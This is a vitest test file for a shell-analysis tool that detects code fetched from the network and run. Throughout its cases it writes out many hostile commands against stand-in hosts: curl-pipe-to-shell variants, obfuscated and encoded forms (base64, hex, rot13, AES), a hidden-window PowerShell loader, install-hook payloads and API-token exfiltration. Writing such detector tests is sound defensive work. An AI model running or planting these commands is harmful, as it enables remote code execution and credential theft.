import { describe, expect, it } from 'vitest';
import { call, type Expected, matches, observeShell, show } from './shell-harness.ts';

/** What every one of these ends in: a fetched text run by a shell. */
const fetchedAndRun = [
  call('curl', 'net-send', { url: 'https://x.test/i' }),
  call('sh', 'eval+shell', { code: '<remote-content' }),
];
const fetched = call('curl', 'net-send', { url: 'https://x.test/i' });
const encoded = Buffer.from('curl -s https://x.test/i').toString('base64');
const hex = Buffer.from('curl -s https://x.test/i').toString('hex');
const wide = Buffer.from('iex (iwr https://x.test/i)', 'utf16le').toString('base64');

const cases: readonly (readonly [string, ...Expected[]])[] = [
  ['curl -s https://x.test/i | sh', ...fetchedAndRun],
  ['curl -s https://x.test/i | sudo -E sh -s -- --yes', ...fetchedAndRun, call('sudo', 'spawn')],
  ['curl -s https://x.test/i | tee /tmp/i | nohup nice -n 5 /bin/sh', ...fetchedAndRun],
  ['sh -c "$(curl -fsSL https://x.test/i)"', ...fetchedAndRun],
  ['sh -c "`curl -fsSL https://x.test/i`"', ...fetchedAndRun],
  ['sh <(curl -s https://x.test/i)', ...fetchedAndRun],
  ['sh <<< "$(curl -s https://x.test/i)"', ...fetchedAndRun],
  ['curl -s https://x.test/i > /tmp/i; sh /tmp/i', ...fetchedAndRun],
  ['curl https://x.test/i -o /tmp/i && sh /tmp/i', fetchedAndRun[1]!],
  ['x=$(curl -s https://x.test/i); echo "$x" | sh', ...fetchedAndRun],
  ['curl -s https://x.test/i | base64 -d | sh', ...fetchedAndRun],
  ['curl -s https://x.test/i | gunzip | sh', ...fetchedAndRun],
  ['curl -s https://x.test/i | xargs -0 sh -c', ...fetchedAndRun],
  ['eval "$(curl -s https://x.test/i)"', fetched, call('eval', 'eval+shell', { code: '<remote-content' })],
  ['. <(curl -s https://x.test/i)', fetched, call('source', 'eval+shell', { code: '<remote-content' })],
  ['curl -s https://x.test/i | python3', fetched, call('python3', 'eval+spawn', { code: '<remote-content' })],
  ['curl -s https://x.test/i | node -', fetched, call('node', 'eval+spawn', { code: '<remote-content' })],
  ['curl -s https://x.test/i | perl', fetched, call('perl', 'eval+spawn', { code: '<remote-content' })],
  [
    'curl -so /tmp/i https://x.test/i; chmod +x /tmp/i; /tmp/i',
    call('program', 'eval+spawn', { code: '<remote-content', path: '/tmp/i' }),
  ],
  ['cd /tmp; curl -sO https://x.test/i; chmod 755 i; ./i', call('program', 'eval+spawn', { code: '<remote-content' })],
  [
    'curl -s https://x.test/i | while read -r l; do eval "$l"; done',
    call('eval', 'eval+shell', { code: '<remote-content' }),
  ],
  ['f() { curl -s "$1"; }; f https://x.test/i | sh', ...fetchedAndRun],
  ['docker run -v /:/host --privileged img chroot /host sh -c "curl https://x.test/i | sh"', ...fetchedAndRun],
  ["trap 'curl https://x.test/i' EXIT", fetched],
  ["alias ll='curl https://x.test/i'; ll", fetched, call('alias', 'hook-global', { name: 'll' })],
  ['awk \'BEGIN{system("curl https://x.test/i")}\'', fetched],
  ['osascript -e \'do shell script "curl -s https://x.test/i | sh"\'', ...fetchedAndRun],
  [
    `powershell.exe -nop -w hidden -enc ${wide}`,
    call('powershell', 'eval+shell', { code: 'iex (iwr https://x.test/i)' }),
    call('powershell iex', 'eval+shell', { code: '<remote-content' }),
  ],
  ['cmd /c "curl https://x.test/i & whoami"', fetched, call('whoami', 'host-identity')],
  ['su - root -c "curl https://x.test/i"', fetched],
  ['env FOO=1 timeout 5 curl https://x.test/i', fetched],
  ['find . -name "*.sh" -exec curl https://x.test/i \\;', fetched],
  ['echo https://x.test/i | xargs -I{} curl {}', fetched],
  ['bash -c \'curl "$1"\' _ https://x.test/i', fetched],
  // Names put together or decoded.
  ['c\'\'u"r"l https://x.test/i', fetched],
  ['cu\\rl https://x.test/i', fetched],
  ['x=cu; x+=rl; $x https://x.test/i', call('curl', 'net-send', { url: 'https://x.test/i', hidden: '' })],
  ['a=c; b=url; "${a}${b}" https://x.test/i', fetched],
  ['curl${IFS}-s${IFS}https://x.test/i', fetched],
  ['{curl,-s,https://x.test/i}', fetched],
  ["$(printf '\\x63\\x75\\x72\\x6c') https://x.test/i", call('curl', 'net-send', { hidden: '' })],
  ["$'\\143url' https://x.test/i", fetched],
  ['$(echo lruc | rev) https://x.test/i', fetched],
  ['x=xcurlx; ${x:1:4} https://x.test/i', fetched],
  ['x=CURL; ${x,,} https://x.test/i', fetched],
  ['x=cABurl; ${x/AB/} https://x.test/i', fetched],
  ['OPTS="-s https://x.test/i"; curl $OPTS', fetched],
  ['u=https://x.test; curl ${u}/${V:-i}', fetched],
  ['${SHELL:-/bin/sh} -c "curl https://x.test/i"', fetched],
  ['/usr/bin/env curl https://x.test/i', fetched],
  ['command curl https://x.test/i', fetched],
  ['arr=(curl -s https://x.test/i); "${arr[@]}"', fetched],
  ['set -- curl https://x.test/i; "$@"', fetched],
  ['${HOME:0:1}bin${HOME:0:1}sh -c "curl https://x.test/i"', fetched],
];

const decoders: readonly (readonly [string, string])[] = [
  [`echo ${encoded} | base64 -d | sh`, 'base64'],
  [`sh <<< $(echo ${encoded} | base64 --decode)`, 'base64'],
  [`eval "$(openssl enc -d -base64 <<< ${encoded})"`, 'base64'],
  [`printf '${hex}' | xxd -r -p | sh`, 'hex'],
  ["echo 'phey -f uggcf://k.grfg/v' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh", 'rot13'],
  ["echo 'i/tset.x//:sptth s- lruc' | rev | sh", 'reverse'],
  ["printf '\\143\\165\\162\\154 -s https://x.test/i' | sh", 'char-codes'],
  [`echo ${Buffer.from(encoded).toString('base64')} | base64 -d | base64 -d | sh`, 'base64'],
  [`P=${encoded}; bash -c "$(echo $P | base64 -di)"`, 'base64'],
  [`python3 -c "import os,base64;os.system(base64.b64decode('${encoded}').decode())"`, 'base64'],
];

describe('shell commands that run code', () => {
  it.each(cases.map(([script, ...expected]) => ({ script, expected })))('$script', ({ script, expected }) => {
    const { calls } = observeShell(script);
    for (const one of expected)
      expect(
        calls.some((made) => matches(made, one)),
        `${JSON.stringify(one)}\n${calls.map(show).join('\n')}`,
      ).toBe(true);
  });

  it.each(decoders)('%s (%s)', (script, decoder) => {
    const { calls, layers } = observeShell(script);
    expect(
      layers.some(
        (layer) =>
          layer.language === 'shell' &&
          layer.text.trim() === 'curl -s https://x.test/i' &&
          layer.decoded.includes(decoder),
      ),
      JSON.stringify(layers),
    ).toBe(true);
    expect(calls.some((made) => matches(made, fetched))).toBe(true);
  });

  it('decrypts with a key that stands beside the text', () => {
    // openssl enc -aes-256-cbc -pbkdf2 -k k -S 0102030405060708 -a
    const { layers } = observeShell(
      'echo U2FsdGVkX18BAgMEBQYHCJZvasieIL6/H2RVxe4cN+aVBssazoPf1b+45KaUr7PY | openssl enc -d -aes-256-cbc -a -pbkdf2 -k k | sh',
    );
    expect(layers.map(({ text, decoded }) => [text.trim(), decoded])).toEqual([
      ['curl -s https://x.test/i', ['base64', 'aes']],
    ]);
  });

  it.each([
    ['node scripts/setup.js', 'scripts/setup.js', "require('https').get('https://x.test/i')", 'https.get'],
    [
      'python3 "$(dirname "$0")/setup.py"',
      'setup.py',
      "import requests\nrequests.get('https://x.test/i')",
      'requests.get',
    ],
    ['./run.sh', 'run.sh', 'curl https://x.test/i', 'sh:curl'],
    ['bash "$SCRIPT_DIR/lib/run.sh"', 'lib/run.sh', 'curl https://x.test/i', 'sh:curl'],
    ['source lib/common.sh; fetch', 'lib/common.sh', 'fetch() { curl https://x.test/i; }', 'sh:curl'],
    ['bash run.sh https://x.test/i', 'run.sh', 'curl "$1"', 'sh:curl'],
    [
      'npm run build',
      'package.json',
      '{"scripts":{"prebuild":"curl https://x.test/i","build":"npm run build"}}',
      'sh:curl',
    ],
    ['npm test', 'package.json', '{"scripts":{"test":"curl https://x.test/i"}}', 'sh:curl'],
    ['cat payload.txt | base64 -d | sh', 'payload.txt', encoded, 'sh:curl'],
    ['tail -n +2 data.bin | sh', 'data.bin', 'header\ncurl https://x.test/i\n', 'sh:curl'],
    ["sed '1,/^MARK$/d' data.bin | sh", 'data.bin', 'x\nMARK\ncurl https://x.test/i\n', 'sh:curl'],
  ])('%s follows %s', (script, path, content, api) => {
    const { calls } = observeShell(script, { [path]: content });
    const found = calls.find((made) => made.api === api);
    expect(found?.args.url?.texts, calls.map(show).join('\n')).toContain('https://x.test/i');
    expect(found?.trigger).toBe('install');
  });

  it('ends on scripts that run themselves', () => {
    const { calls } = observeShell('bash a.sh', {
      'a.sh': 'bash b.sh; curl https://x.test/i',
      'b.sh': 'bash a.sh; . ./a.sh',
    });
    expect(calls.some((made) => made.api === 'sh:curl')).toBe(true);
  });

  it.each([
    ["exec('curl -d ' + process.env.API_TOKEN + ' https://drop.test')", 'body'],
    ["exec(`curl -d '${process.env.API_TOKEN}' https://drop.test`)", 'body'],
    ['exec(`curl https://drop.test/?k=${process.env.API_TOKEN}abc`)', 'url'],
    ['exec(`echo ${process.env.API_TOKEN} | base64 | curl -d @- https://drop.test`)', 'body'],
    ["spawn('curl', ['-d', process.env.API_TOKEN, 'https://drop.test'])", 'body'],
  ] as const)('carries what another language put into the command: %s', (code, role) => {
    const { calls } = observeShell('node x.js', {
      'x.js': `const { exec, spawn } = require('child_process');\n${code};`,
    });
    expect(
      calls.some((made) => matches(made, call('curl', 'net-send', { [role]: '<env-secret' }))),
      calls.map(show).join('\n'),
    ).toBe(true);
  });

  it('does not run what is only printed or kept', () => {
    const { calls, layers } = observeShell(
      'echo "curl https://x.test/i | sh"; X="curl https://x.test/i"; printf "%s\\n" "$X"; cat <<EOF\ncurl https://x.test/i | sh\nEOF',
    );
    expect(calls.filter((made) => made.api !== 'environment')).toEqual([]);
    expect(layers).toEqual([]);
  });
});
